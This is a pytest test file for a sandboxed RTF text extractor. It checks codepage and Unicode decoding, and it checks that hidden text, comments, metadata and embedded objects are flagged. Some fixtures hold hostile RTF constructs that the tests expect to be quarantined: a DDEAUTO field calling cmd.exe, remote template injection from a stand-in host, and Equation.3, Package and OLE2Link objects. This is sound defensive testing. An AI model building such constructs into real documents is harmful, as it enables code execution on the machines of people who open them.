"""RTF in the cell: the text that can be seen in every codepage, and what would run kept out."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from answerable.cell.document import Opened
from answerable.cell.formats import Quarantine
from answerable.cell.opening import open_bytes
from tests.cell.opened import CANARY, kinds, opened, told


def rtf(body: str, head: str = "") -> bytes:
    return rf"{{\rtf1\ansi\ansicpg1252{head}\uc1 {body}}}".encode("latin-1")


def text_of(content: bytes) -> str:
    return opened("rtf", content).pages[0].text


@pytest.mark.parametrize(
    ("body", "text"),
    [
        (r"The council\par removed them.", "The council\nremoved them."),
        (r"caf\'e9, \ldblquote quoted\rdblquote  \endash  10\'80", "café, “quoted” – 10€"),
        (r"{\fonttbl{\f0\fcharset204 Arial;}}\f0 \'cf\'f0\'e8\'e2\'e5\'f2", "Привет"),
        (r"{\fonttbl{\f0 A;}{\f1\fcharset128 M;}}\f1\'93\'fa\'96\'7b\f0 : caf\'e9", "日本: café"),
        (r"{\fonttbl{\f0\fcharset134 S;}}\f0 \'ba\'a3\'bf\'b5", "海康"),
        (r"\u28023?\u24247? and \u-10179?\u-8704?", "海康 and 😀"),
        (r"\u8364\'80 \uc2\u8364\'80\'80, \uc0\u8364 !", "€ €, €!"),
        (r"{\upr{old}{\*\ud{new}}}", "new"),
        (r"\trowd one\cell two\cell\row three\cell four\cell\row", "one | two\nthree | four"),
        (r"{\header Head}{\footer Foot}Body{\footnote Note}", "Head\n\nFoot\nBody\nNote"),
        (r"{\field{\*\fldinst HYPERLINK http://example.org}{\fldrslt a link}}", "a link"),
        (r"{\pict\wmetafile8 0102ff}{\*\shppict{\pict\pngblip 8950}}seen", "seen"),
        (r"{\pict\bin9 }}}{{{\v }seen", "seen"),
        (r"a\{b\}c\\d\~e\_f", "a{b}c\\d\xa0e-f"),
        (r"{\*\unheard of}{\stylesheet{\s0 Normal;}}{\colortbl;\red0;}seen", "seen"),
        (r"{\shp{\*\shpinst{\sp{\sn x}{\sv 1}}{\shptxt In a box}}}", "In a box"),
        ("line\r\n ends", "line ends"),
        (r"lone half \u-10179? of a pair", "lone half \ufffd of a pair"),
    ],
)
def test_text_is_what_a_reader_sees(body: str, text: str) -> None:
    assert text_of(rtf(body)) == text


def test_what_stands_after_the_last_brace_is_no_part_of_it() -> None:
    assert text_of(rtf("seen") + b" and unseen{\\v") == "seen"


def test_a_codepage_of_the_whole_file_is_read() -> None:
    assert text_of(rb"{\rtf1\ansi\ansicpg1251 \'cf\'f0\'e8}") == "При"
    assert text_of(rb"{\rtf1\ansi\ansicpg65001 \'e6\'b5\'b7}") == "海"
    assert text_of(rb"{\rtf1\ansi\ansicpg99999 plain}") == "plain"


@pytest.mark.parametrize(
    ("body", "kind"),
    [
        (rf"seen{{\v {CANARY}}}", "hidden_text"),
        (rf"seen\v {CANARY}\v0 ", "hidden_text"),
        (rf"seen{{\deleted {CANARY}}}", "tracked_change"),
        (rf"seen{{\*\atnid AB}}{{\*\atnauthor {CANARY}}}{{\*\annotation {CANARY}}}", "comment"),
        (rf"{{\info{{\author {CANARY}}}}}seen", "metadata"),
        (rf"{{\info{{\*\manager {CANARY}}}}}seen", "metadata"),
        (rf"{{\object\objemb{{\*\objclass Excel.Sheet.8}}{{\*\objdata 0105{CANARY.encode().hex()}}}}}seen",
         "embedded_file"),
        (rf"{{\field{{\*\fldinst INCLUDEPICTURE http://a.example/{CANARY} }}{{\fldrslt }}}}seen",
         "external_link"),
    ],
)  # fmt: skip
def test_what_a_file_holds_beside_its_text_is_flagged_and_not_shown(body: str, kind: str) -> None:
    document = opened("rtf", rtf(body))
    assert document.pages[0].text == "seen"
    assert kinds(document) == {kind}
    assert CANARY not in told(document)


def test_inserted_text_is_read_and_told_as_a_change() -> None:
    document = opened("rtf", rtf(r"The council {\revised removed} them"))
    assert document.pages[0].text == "The council removed them"
    assert kinds(document) == {"tracked_change"}


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        (r"{\object\objemb{\*\objclass Equation.3}{\*\objdata 01}}", "executable"),
        (r"{\object\objemb{\*\objdata 0105000002000000" + b"eQuatiON.3".hex() + "}}", "executable"),
        (
            r"{\object{\*\objdata 01 05\par 00{\*\junk ff}" + "\n".join(b"Package".hex()) + "}}",
            "executable",
        ),
        (r"{\object\objautlink\objupdate{\*\objclass Word.Document.8}{\*\objdata 0105}}", "executable"),
        (r"{\object\objemb{\*\objdata " + "OLE2Link".encode("utf-16-le").hex() + "}}", "executable"),
        (r"{\object\objocx{\*\objdata 00}}", "executable"),
        (r"{\*\template http://a.example/x.dotm}", "macros"),
        (r"{\*\template \\\\a.example\\x.dotm}", "macros"),
        (r"{\field{\*\fldinst DDEAUTO c:\\\\windows\\\\cmd.exe }}", "macros"),
        (r"{\field{\*\fldinst {DDE}{AUTO x}}}", "macros"),
    ],
)
def test_what_would_run_is_quarantined(body: str, reason: str) -> None:
    with pytest.raises(Quarantine) as caught:
        opened("rtf", rtf(body))
    assert caught.value.reason == reason


def test_a_common_template_and_a_title_are_nothing_to_tell() -> None:
    document = opened("rtf", rtf(r"{\info{\title Cameras in  2022}{\author }}{\*\template Normal.dotm}seen"))
    assert (document.title, document.flags) == ("Cameras in 2022", ())


@pytest.mark.parametrize("content", [b"no RTF at all", b"{\\rtf1 " + b"{" * 100_000])
def test_what_is_no_rtf_is_unreadable(content: bytes) -> None:
    with pytest.raises(Quarantine) as caught:
        opened("rtf", content)
    assert caught.value.reason == "unreadable"


@settings(deadline=None)
@given(st.text(st.characters(exclude_categories=["C", "Z"]), max_size=60))
def test_any_text_comes_back_as_it_was_written(text: str) -> None:
    units = text.encode("utf-16-le")
    numbers = (int.from_bytes(units[at : at + 2], "little", signed=True) for at in range(0, len(units), 2))
    assert text_of(rtf("".join(rf"\u{number}?" for number in numbers))) == text


def test_in_the_cell_rtf_reads_the_same() -> None:
    content = rtf(r"{\fonttbl{\f0\fcharset204 A;}{\f1\fcharset78 M;}}\f0\'cf\'f0\'e8{\v x}")
    document = open_bytes(content, name="answer.rtf")
    assert isinstance(document, Opened)
    assert document == opened("rtf", content)
